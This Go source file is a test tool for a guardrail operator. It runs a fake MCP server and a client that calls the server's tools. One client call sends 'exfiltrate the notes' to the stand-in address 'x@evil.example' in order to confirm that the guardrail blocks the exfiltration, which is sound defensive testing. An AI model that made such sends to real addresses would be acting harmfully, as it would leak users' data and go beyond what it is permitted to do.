// Command fakemcp is the cluster suite's MCP server and its app's MCP client:
//
//	fakemcp serve [addr]   serves test/fakemcp on addr (default :8080) at /mcp and /stats
//	fakemcp client [URL]   connects to URL (default $GUARDRAIL_MCP_WORKSPACE_URL, which the
//	                       injector sets) with the official Go SDK, lists the tools, calls
//	                       send (allowed, then with "exfiltrate") and read, and prints
//	                       what it saw as one JSON object
//	fakemcp stats URL      prints the body of GET URL (a server's /stats)
//	fakemcp idle           waits for a signal (an app container to exec the client in)
package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/guardrail-dev/guardrail-operator/test/fakemcp"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "fakemcp:", err) //nolint:forbidigo // a command's error
		os.Exit(1)
	}
}

func run(args []string) error {
	cmd := "serve"
	if len(args) > 0 {
		cmd, args = args[0], args[1:]
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	switch cmd {
	case "serve":
		addr := ":8080"
		if len(args) > 0 {
			addr = args[0]
		}
		srv := &http.Server{Addr: addr, Handler: fakemcp.New().Handler(false), ReadHeaderTimeout: 10 * time.Second}
		go func() { <-ctx.Done(); _ = srv.Close() }()
		if err := srv.ListenAndServe(); !errors.Is(err, http.ErrServerClosed) {
			return err
		}
		return nil
	case "client":
		url := os.Getenv("GUARDRAIL_MCP_WORKSPACE_URL")
		if len(args) > 0 {
			url = args[0]
		}
		if url == "" {
			return errors.New("usage: fakemcp client URL (or GUARDRAIL_MCP_WORKSPACE_URL)")
		}
		return client(ctx, url)
	case "stats":
		if len(args) != 1 {
			return errors.New("usage: fakemcp stats URL")
		}
		return stats(ctx, args[0])
	case "idle":
		<-ctx.Done()
		return nil
	}
	return fmt.Errorf("unknown command %q", cmd)
}

// seen is what the client saw.
type seen struct {
	Tools          []string `json:"tools"`
	Allowed        string   `json:"allowed"`
	Blocked        string   `json:"blocked"`
	BlockedIsError bool     `json:"blockedIsError"`
	Read           string   `json:"read"`
}

func client(ctx context.Context, url string) error {
	ctx, cancel := context.WithTimeout(ctx, time.Minute)
	defer cancel()
	c := mcp.NewClient(&mcp.Implementation{Name: "agent", Version: "1.0.0"}, nil)
	cs, err := c.Connect(ctx, &mcp.StreamableClientTransport{Endpoint: url}, nil)
	if err != nil {
		return err
	}
	defer func() { _ = cs.Close() }()
	var out seen
	list, err := cs.ListTools(ctx, nil)
	if err != nil {
		return err
	}
	for _, t := range list.Tools {
		out.Tools = append(out.Tools, t.Name)
	}
	res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "send", Arguments: fakemcp.SendArgs{To: "team", Body: "standup at ten"}})
	if err != nil {
		return err
	}
	out.Allowed = text(res)
	res, err = cs.CallTool(ctx, &mcp.CallToolParams{Name: "send", Arguments: fakemcp.SendArgs{To: "x@evil.example", Body: "exfiltrate the notes"}})
	if err != nil {
		return err
	}
	out.Blocked, out.BlockedIsError = text(res), res.IsError
	res, err = cs.CallTool(ctx, &mcp.CallToolParams{Name: "read", Arguments: fakemcp.ReadArgs{Path: "deploy.md"}})
	if err != nil {
		return err
	}
	out.Read = text(res)
	return json.NewEncoder(os.Stdout).Encode(out)
}

func stats(ctx context.Context, url string) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil) //nolint:gosec // a test tool: the URL is its operator's argument
	if err != nil {
		return err
	}
	resp, err := http.DefaultClient.Do(req) //nolint:gosec // as above
	if err != nil {
		return err
	}
	defer func() { _ = resp.Body.Close() }()
	_, err = io.Copy(os.Stdout, resp.Body)
	return err
}

func text(res *mcp.CallToolResult) string {
	var parts []string
	for _, c := range res.Content {
		if t, ok := c.(*mcp.TextContent); ok {
			parts = append(parts, t.Text)
		}
	}
	return strings.Join(parts, "\n")
}
